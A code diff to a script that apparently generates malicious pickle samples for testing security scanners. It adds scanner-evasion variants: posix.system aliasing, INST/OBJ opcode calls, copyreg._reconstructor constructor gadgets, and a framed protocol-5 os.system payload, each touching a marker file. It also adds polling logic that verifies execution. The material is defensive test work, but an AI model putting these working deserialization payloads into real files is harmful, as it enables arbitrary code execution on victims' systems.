@@ -25,6 +25,7 @@ import subprocess
 import sys
 import tarfile
 import tempfile
+import time
 import warnings
 import zipfile
 import zlib
@@ -205,6 +206,23 @@ def build():
         "pickle", "logging.config._resolve", "picklescan GHSA")
     add("popped_call.pkl", p2(SYSTEM + b"0" + lit({"ok": 1})), "pickle", "call whose result is POPped",
         "fickling report (POP hides the call)")
+
+    add("posix_system.pkl", p2(call(g0("posix", "system"), SHELL)), "pickle", "alias spelling (posix for os)",
+        "picklescan GHSA (posix/nt)")
+    # Calls without REDUCE: INST and OBJ call any callable with the arguments after the MARK.
+    add("inst_opcode.pkl", b"(" + lit(SHELL) + b"ios\nsystem\n.", "pickle", "call by INST",
+        "fickling report (INST/OBJ)")
+    add("obj_opcode.pkl", b"\x80\x02(" + g0("os", "system") + lit(SHELL) + b"o.", "pickle", "call by OBJ",
+        "fickling report (INST/OBJ)")
+    # copyreg._reconstructor(cls, base, state) runs base.__init__(obj, state): the class is only imported here.
+    add("reconstructor_popen.pkl",
+        p2(call(g0("copyreg", "_reconstructor"), g0("subprocess", "Popen"), g0("subprocess", "Popen"),
+                ["touch", MARKER])), "pickle", "constructor run by copyreg._reconstructor", "modelscan report")
+    add("reconstructor_filehandler.pkl",
+        p2(call(g0("copyreg", "_reconstructor"), g0("logging", "FileHandler"), g0("logging", "FileHandler"),
+                MARKER)), "pickle", "constructor run by copyreg._reconstructor", "modelscan report")
+    add("protocol5_framed.pkl", pickle.dumps([Reduce(os.system, SHELL), "x" * 100000], 5), "pickle",
+        "protocol 5 with frames", "baseline")
 
     # ---- stdlib gadgets that run code without os/subprocess in their name ----
     add("pydoc_pipepager.pkl", p2(call(g0("pydoc", "pipepager"), "", SHELL)), "pickle", "stdlib gadget",
@@ -461,7 +479,12 @@ def verify(sample):
                            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
         except subprocess.TimeoutExpired:
             return False
-        return os.path.exists(os.path.join(scratch, MARKER))
+        # A payload may start a command it does not wait for (os.popen, asyncio): give it time to finish.
+        for _ in range(100):
+            if os.path.exists(os.path.join(scratch, MARKER)):
+                return True
+            time.sleep(0.1)
+        return False
     finally:
         shutil.rmtree(scratch, ignore_errors=True)
 
